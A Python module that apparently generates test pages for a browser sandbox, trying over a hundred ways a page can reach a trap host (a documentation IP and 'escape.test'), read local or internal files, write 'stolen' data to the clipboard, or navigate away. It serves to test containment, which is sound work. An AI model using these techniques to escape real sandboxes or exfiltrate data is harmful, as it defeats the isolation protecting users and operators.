"""Pages that try to get out: each way has a name, and asks for that name at an address where a trap listens.

`pages` gives documents to load: one with everything that can be tried side by side, and one for each way that leaves
the page. What is not a matter of the network says `won("name")`.
"""

from __future__ import annotations

import re

SERVER = "203.0.113.7"  # https://www.rfc-editor.org/rfc/rfc5737: nobody's
DOMAIN = "escape.test"

# Not all can arrive: what needs a permission, what this browser does not have, what one way closes to another.
MUST_ARRIVE = """
img script script-module css-link css-import css-background css-font svg-image iframe srcdoc-img data-frame blob-frame
object embed prefetch preload modulepreload video audio input-image fetch fetch-by-name fetch-loopback xhr xhr-sync
websocket eventsource beacon import eval-import worker-fetch worker-import window-open window-fetch form-get form-post
form-post-blank location location-replace link refresh navigation-api top-from-srcdoc dns-prefetch preconnect-by-name
stun-by-name
"""


def to(name: str, scheme: str = "http") -> str:
    return f"{scheme}://{SERVER}/{name}"


def named(name: str, scheme: str = "http") -> str:
    """The same by a host name, so that somebody has to be asked for its address."""
    return f"{scheme}://{name}.{DOMAIN}/{name}"


MARKUP = [
    f'<img src="{to("img")}">',
    f'<img src="{named("img-by-name")}">',
    f'<img srcset="{to("img-srcset")} 1x">',
    f'<picture><source srcset="{to("picture-source")}"><img></picture>',
    f'<script src="{to("script")}"></script>',
    f'<script type=module src="{to("script-module")}"></script>',
    f'<link rel=stylesheet href="{to("css-link")}">',
    f'<style>@import "{to("css-import")}";</style>',
    f"<style>#b1 {{ background: url({to('css-background')}) }}</style><p id=b1>x",
    f"<style>#b2 {{ cursor: url({to('css-cursor')}), auto }}</style><p id=b2>x",
    f"<style>#b3 {{ list-style-image: url({to('css-list')}) }}</style><li id=b3>x",
    f"<style>#b4 {{ mask-image: url({to('css-mask')}) }}</style><p id=b4>x",
    f"<style>#b5 {{ border-image: url({to('css-border')}) 1 }}</style><p id=b5>x",
    f"<style>#b6::after {{ content: url({to('css-content')}) }}</style><p id=b6>x",
    f"<style>#b7 {{ filter: url({to('css-filter')}#x) }}</style><p id=b7>x",
    f"<style>#b8 {{ background: image-set('{to('css-image-set')}' 1x) }}</style><p id=b8>x",
    f"<style>@font-face {{ font-family: f; src: url({to('css-font')}) }} #b9 {{ font-family: f }}</style><p id=b9>x",
    f"<style>@font-face {{ font-family: g; src: url({named('font-by-name')}) }} #c0 {{ font-family: g }}</style>"
    "<p id=c0>x",
    f'<video src="{to("video")}" autoplay muted></video>',
    f'<video poster="{to("video-poster")}"></video>',
    f'<audio src="{to("audio")}" autoplay preload=auto></audio>',
    f'<video autoplay muted src="data:video/mp4,x"><track default src="{to("track")}"></video>',
    f'<object data="{to("object")}"></object>',
    f'<object data="{to("object-pdf")}" type="application/pdf"></object>',
    f'<embed src="{to("embed")}">',
    f'<embed src="{to("embed-pdf")}" type="application/pdf">',
    f'<iframe src="{to("iframe")}"></iframe>',
    f'<iframe src="{named("iframe-by-name")}"></iframe>',
    f'<iframe srcdoc="<img src={to("srcdoc-img")}><script src={to("srcdoc-script")}></script>"></iframe>',
    f'<iframe srcdoc="<meta http-equiv=refresh content=0;url={to("srcdoc-refresh")}>"></iframe>',
    f"<iframe srcdoc=\"<script>fetch('{to('srcdoc-fetch')}', {{mode: 'no-cors'}})</script>\"></iframe>",
    f'<iframe src="data:text/html,<img src={to("data-frame")}>"></iframe>',
    f"<iframe src=\"javascript:'<img src={to('javascript-frame')}>'\"></iframe>",
    f'<link rel=prefetch href="{to("prefetch")}">',
    f'<link rel=preload as=image href="{to("preload")}">',
    f'<link rel=preload as=font crossorigin href="{to("preload-font")}">',
    f'<link rel=modulepreload href="{to("modulepreload")}">',
    f'<link rel=preconnect href="{to("preconnect")}">',
    f'<link rel=preconnect href="{named("preconnect-by-name")}">',
    f'<link rel=dns-prefetch href="//dns-prefetch.{DOMAIN}">',
    f'<meta http-equiv="x-dns-prefetch-control" content="on"><a href="{named("dns-prefetch-link")}">x</a>',
    f'<link rel=prerender href="{to("prerender")}">',
    f'<link rel=manifest href="{to("manifest")}">',
    f'<link rel=icon href="{to("icon")}">',
    f'<link rel=apple-touch-icon href="{to("touch-icon")}">',
    f'<link rel=search type="application/opensearchdescription+xml" href="{to("opensearch")}">',
    f'<svg><image href="{to("svg-image")}"/></svg>',
    f'<svg><use href="{to("svg-use")}#a"/></svg>',
    f'<svg><filter id=f1><feImage href="{to("svg-feimage")}"/></filter>'
    '<rect filter="url(#f1)" width=9 height=9 /></svg>',
    f'<svg><foreignObject><img src="{to("svg-foreign")}"></foreignObject></svg>',
    f'<svg><script href="{to("svg-script")}"></script></svg>',
    f'<svg><image><set attributeName="href" to="{to("svg-set")}"/></image></svg>',
    f'<input type=image src="{to("input-image")}">',
    f'<table background="{to("table-background")}"><td>x</table>',
    f'<fencedframe src="{to("fencedframe")}"></fencedframe><portal src="{to("portal")}"></portal>',
    f'<script type=speculationrules>{{"prefetch": [{{"source": "list", "urls": ["{to("speculation-prefetch")}"]}}],'
    f' "prerender": [{{"source": "list", "urls": ["{to("speculation-prerender")}"]}}]}}</script>',
    f'<script type=importmap>{{"imports": {{"far": "{to("importmap")}"}}}}</script>'
    "<script type=module>import('far').catch(() => 0)</script>",
    f'<meta http-equiv="Content-Security-Policy" content="img-src \'none\'; report-uri {to("csp-report")}">',
]

SCRIPTS = [
    f"fetch('{to('fetch')}', {{mode: 'no-cors'}})",
    f"fetch('{named('fetch-by-name')}', {{mode: 'no-cors'}})",
    f"fetch('{to('fetch-tls', 'https')}', {{mode: 'no-cors'}})",
    f"fetch('{to('fetch-keepalive')}', {{method: 'POST', mode: 'no-cors', keepalive: true, body: 'x'}})",
    "fetch('http://127.0.0.1/fetch-loopback', {mode: 'no-cors'})",
    "fetch('http://localhost/fetch-localhost', {mode: 'no-cors'})",
    "fetch('http://[::1]/fetch-loopback-6', {mode: 'no-cors'})",
    f"const x1 = new XMLHttpRequest(); x1.open('GET', '{to('xhr')}'); x1.send()",
    f"const x2 = new XMLHttpRequest(); x2.open('GET', '{to('xhr-sync')}', false); x2.send()",
    f"new WebSocket('{to('websocket', 'ws')}')",
    f"new WebSocket('{named('websocket-by-name', 'ws')}')",
    "new WebSocket('ws://127.0.0.1/websocket-loopback')",
    f"new EventSource('{to('eventsource')}')",
    f"navigator.sendBeacon('{to('beacon')}', 'x')",
    f"new Image().src = '{to('image-object')}'",
    f"document.body.insertAdjacentHTML('beforeend', '<img src={to('inserted')}>')",
    f"new Worker('{to('worker')}')",
    f"new Worker(URL.createObjectURL(new Blob([\"fetch('{to('worker-fetch')}', {{mode: 'no-cors'}});"
    f" importScripts('{to('worker-import')}')\"])))",
    f"new SharedWorker('{to('sharedworker')}')",
    f"new SharedWorker(URL.createObjectURL(new Blob([\"fetch('{to('sharedworker-fetch')}', {{mode: 'no-cors'}})\"])))",
    f"navigator.serviceWorker.register('{to('serviceworker')}')",
    "navigator.serviceWorker.register('page.html').then(() => won('serviceworker-here'))",
    f"new AudioContext().audioWorklet.addModule('{to('audioworklet')}')",
    f"CSS.paintWorklet.addModule('{to('paintworklet')}')",
    f"import('{to('import')}')",
    f"eval(\"import('{to('eval-import')}')\")",
    f"peer('stun:{SERVER}:3478')",
    f"peer('stun:stun-by-name.{DOMAIN}:3478')",
    f"peer('turn:{SERVER}:3478?transport=udp')",
    f"peer('turn:{SERVER}:3478?transport=tcp')",
    f"peer('turns:{SERVER}:5349?transport=tcp')",
    "peer('turn:127.0.0.1:3478?transport=tcp')",
    "peer('stun:127.0.0.1:3478')",
    f"new WebTransport('https://{SERVER}:443/webtransport')",
    f"frame(URL.createObjectURL(new Blob(['<img src={to('blob-frame')}>'], {{type: 'text/html'}})))",
    f'frame(URL.createObjectURL(new Blob([\'<?xml-stylesheet type="text/xsl" href="{to("xslt")}"?><a/>\'],'
    " {type: 'text/xml'})))",
    "const p2 = new XSLTProcessor(); p2.importStylesheet(new DOMParser().parseFromString("
    '\'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    f"<xsl:include href=\"{to('xslt-include')}\"/></xsl:stylesheet>', 'text/xml'))",
    f"frame('about:blank').fetch('{to('frame-fetch')}', {{mode: 'no-cors'}})",
    f"frame('about:blank').location = '{to('frame-location')}'",
    f"const w1 = window.open('about:blank'); w1.fetch('{to('window-fetch')}', {{mode: 'no-cors'}})",
    f"const w2 = window.open(''); w2.document.write('<img src={to('window-write')}>')",
    f"window.open('{to('window-open')}')",
    f"window.open('{named('window-open-by-name')}', '_blank', 'noopener')",
    f"submit('get', '{to('form-get-blank')}', '_blank')",
    f"submit('post', '{to('form-post-blank')}', '_blank')",
    f"const f6 = document.createElement('iframe'); f6.name = 'inner'; document.body.append(f6);"
    f" submit('post', '{to('form-into-frame')}', 'inner')",
    f"click({{href: '{to('link-blank')}', target: '_blank'}})",
    f"click({{href: '#here', ping: '{to('link-ping')}'}})",
    f"click({{href: '{to('link-download')}', download: 'x'}})",
    f"fetch('/x').catch(() => 0); new ReportingObserver(() => 0).observe(); navigator.sendBeacon('{to('beacon-2')}')",
    f"history.pushState(null, '', '{to('history-push')}')",
    f"navigator.registerProtocolHandler('web+x', '{to('protocol')}?%s')",
    f"new PaymentRequest([{{supportedMethods: '{to('payment', 'https')}'}}], {{total: {{label: 'x', amount:"
    " {currency: 'EUR', value: '1'}}}).canMakePayment()",
    f"navigator.credentials.get({{identity: {{providers: [{{configURL: '{to('credentials', 'https')}',"
    " clientId: '1'}]}})",
    f"parent.postMessage('x', '*'); (opener ?? top).postMessage('{to('message')}', '*')",
    # What is on this machine.
    "fetch(FILE).then(() => won('file-fetch'))",
    "const x3 = new XMLHttpRequest(); x3.onload = () => won('file-xhr'); x3.open('GET', FILE); x3.send()",
    "load('iframe', FILE, 'file-frame')",
    "load('img', FILE_IMAGE, 'file-img')",
    "load('script', FILE_SCRIPT, 'file-script')",
    "load('object', FILE_IMAGE, 'file-object')",
    "load('link', FILE_STYLE, 'file-style')",
    "window.open(FILE) && won('file-window')",
    "fetch('qrc:///qtwebchannel/qwebchannel.js').then(() => won('qrc-fetch'))",
    "load('script', 'qrc:///qtwebchannel/qwebchannel.js', 'qrc-script')",
    "load('iframe', 'chrome://version', 'chrome-frame')",
    "load('iframe', 'chrome://gpu', 'chrome-gpu')",
    "load('iframe', 'view-source:' + location.href, 'view-source')",
    "load('iframe', 'devtools://devtools/bundled/inspector.html', 'devtools')",
    "load('iframe', 'chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/index.html', 'extension')",
    "fetch(OTHER).then(() => won('other-fetch'))",
    "load('iframe', OTHER, 'other-frame')",
    "load('img', OTHER_IMAGE, 'other-img')",
    "load('script', OTHER_SCRIPT, 'other-script')",
    "load('link', OTHER_STYLE, 'other-style')",
    "load('script', '../above.js', 'above-script')",
    "load('script', '/%2e%2e/above.js', 'above-encoded')",
    # What stays behind, and what only a user may do.
    "localStorage.x = 1; won('localstorage')",
    "sessionStorage.x = 1; won('sessionstorage')",
    "document.cookie = 'x=1'; document.cookie && won('cookie')",
    "const i1 = indexedDB.open('x'); i1.onsuccess = () => won('indexeddb')",
    "caches.open('x').then(() => won('caches'))",
    "navigator.storage.getDirectory().then(() => won('storage-directory'))",
    "new BroadcastChannel('x').postMessage('broadcast')",  # heard by the other page, which would say so
    "navigator.clipboard.readText().then(() => won('clipboard-read'))",
    "navigator.clipboard.writeText('stolen').then(() => won('clipboard-write'))",
    "getSelection().selectAllChildren(document.body); document.execCommand('copy')",  # seen in the clipboard
    "document.execCommand('paste') && won('paste')",
    "Notification.requestPermission().then((p) => p === 'granted' && won('notification'))",
    "navigator.geolocation.getCurrentPosition(() => won('geolocation'))",
    "navigator.mediaDevices.getUserMedia({audio: true}).then(() => won('microphone'))",
    "navigator.mediaDevices.getUserMedia({video: true}).then(() => won('camera'))",
    "navigator.mediaDevices.getDisplayMedia().then(() => won('screen'))",
    "navigator.requestMIDIAccess().then(() => won('midi'))",
    "queryLocalFonts().then(() => won('fonts'))",
    "showOpenFilePicker().then(() => won('open-picker'))",
    "showSaveFilePicker().then(() => won('save-picker'))",
    "showDirectoryPicker().then(() => won('directory-picker'))",
    "const in1 = document.createElement('input'); in1.type = 'file'; in1.onchange = () => won('file-input');"
    " document.body.append(in1); in1.click()",
    "document.documentElement.requestFullscreen().then(() => won('fullscreen'))",
    "document.body.requestPointerLock().then(() => won('pointer-lock'))",
    "navigator.usb.requestDevice({filters: []}).then(() => won('usb'))",
    "navigator.hid.requestDevice({filters: []}).then(() => won('hid'))",
    "navigator.serial.requestPort().then(() => won('serial'))",
    "navigator.bluetooth.requestDevice({acceptAllDevices: true}).then(() => won('bluetooth'))",
    "navigator.wakeLock.request().then(() => won('wake-lock'))",
    "navigator.share({url: location.href}).then(() => won('share'))",
    "click({href: URL.createObjectURL(new Blob(['x'])), download: 'stolen.txt'})",
    "click({href: 'data:text/plain,x', download: 'stolen-data.txt'})",
    "confirm('x') && won('confirm')",
    "alert('x'); print()",
]

LEAVING = {
    "location": f"location = '{to('location')}'",
    "location-by-name": f"location = '{named('location-by-name')}'",
    "location-replace": f"location.replace('{to('location-replace')}')",
    "link": f"click({{href: '{to('link')}'}})",
    "form-get": f"submit('get', '{to('form-get')}', '')",
    "form-post": f"submit('post', '{to('form-post')}', '')",
    "refresh": f"document.write('<meta http-equiv=refresh content=\"0;url={to('refresh')}\">')",
    "navigation-api": f"navigation.navigate('{to('navigation-api')}')",
    "javascript-link": f"click({{href: \"javascript:location='{to('javascript-link')}'\"}})",
    "frameset": f"document.write('<frameset><frame src=\"{to('frameset')}\"></frameset>')",
    "base": f"document.write('<base href=\"{to('base/')}\"><img src=x><form action=x></form>');"
    " document.forms[0].submit()",
    "file-location": "location = FILE",
    "view-source-location": "location = 'view-source:' + location.href",
    "other-location": "location = OTHER",
    "top-from-srcdoc": f"const f5 = document.createElement('iframe'); f5.srcdoc = \"<script>top.location ="
    f" '{to('top-from-srcdoc')}'<\\/script>\"; document.body.append(f5)",
    "history": f"history.replaceState(0, '', '#a'); location.href = '{to('history')}'; history.back()",
}

_START = """<!doctype html><meta charset=utf-8><body><script>
const found = window.__TOOL_DATA__ ?? {}, all = [];
const FILE = found.file + '.txt', FILE_IMAGE = found.file + '.svg', FILE_SCRIPT = found.file + '.js',
  FILE_STYLE = found.file + '.css', OTHER = found.other + 'page.html', OTHER_IMAGE = found.other + 'lib.svg',
  OTHER_SCRIPT = found.other + 'lib.js', OTHER_STYLE = found.other + 'lib.css';
let tried = 0;
function tell() { document.title = '=' + JSON.stringify({won: all, tried}); }
function won(name) { if (!all.includes(name)) all.push(name); tell(); }
function load(tag, address, name) {
  const made = document.createElement(tag);
  // A frame says that it is loaded when all it shows is that it must not; the frames are looked at from outside.
  made.onload = () => tag === 'iframe' || tag === 'object' || won(name);
  if (tag === 'link') { made.rel = 'stylesheet'; made.href = address; }
  else if (tag === 'object') made.data = address;
  else made.src = address;
  document.body.append(made);
}
function frame(address) {
  const made = Object.assign(document.createElement('iframe'), {src: address});
  document.body.append(made);
  return made.contentWindow;
}
function click(properties) {
  const link = Object.assign(document.createElement('a'), properties);
  document.body.append(link);
  link.click();
}
function submit(method, action, target) {
  const form = Object.assign(document.createElement('form'), {method, action, target});
  document.body.append(form);
  form.submit();
}
function peer(address) {
  const made = new RTCPeerConnection({iceServers: [{urls: address, username: 'u', credential: 'c'}]});
  made.onicecandidate = (event) => event.candidate && / (?!0\\.0\\.0\\.0)\\d+\\.\\d+\\.\\d+\\.\\d+ /.test(
    event.candidate.candidate) && won('webrtc-address');
  made.createDataChannel('x');
  made.createOffer().then((offer) => made.setLocalDescription(offer));
}
async function attempt(script) {
  tried += 1;
  tell();
  try { await (0, eval)(`(async () => { ${script} })()`); } catch {}
}
</script>
"""


def pages() -> dict[str, str]:
    """Documents by name. Every script is run when the page is loaded and, in `all`, once more when the user clicks."""
    tries = "".join(f"attempt({_quoted(script)});\n" for script in SCRIPTS)
    # Both with the page there and by the hand of the user, without which some ways are closed anyway.
    run = "onload = go; onclick = (event) => event.isTrusted && go(); tell();"
    body = f"{''.join(MARKUP)}<script>const go = () => {{ {tries} }};\n{run}</script>"
    made = {"all": f"{_START}{body}"}
    for name, script in LEAVING.items():
        made[name] = f"{_START}<script>tell(); onload = () => attempt({_quoted(script)});</script>"
    return made


def names() -> frozenset[str]:
    """Every way out that is tried, by name."""
    text = "\n".join((*MARKUP, *SCRIPTS))
    asked = re.findall(rf"//(?:{re.escape(SERVER)}|127\.0\.0\.1|localhost|\[::1\])(?::\d+)?/([\w-]+)", text)
    by_name = re.findall(rf"([\w-]+)\.{re.escape(DOMAIN)}", text)
    told = re.findall(r"won\('([\w-]+)'\)|load\(.*, '([\w-]+)'\)$", text, re.MULTILINE)
    return frozenset((*asked, *by_name, *LEAVING, *(one or other for one, other in told)))


def _quoted(script: str) -> str:
    return "`" + script.replace("\\", "\\\\").replace("`", "\\`").replace("${", "\\${") + "`"
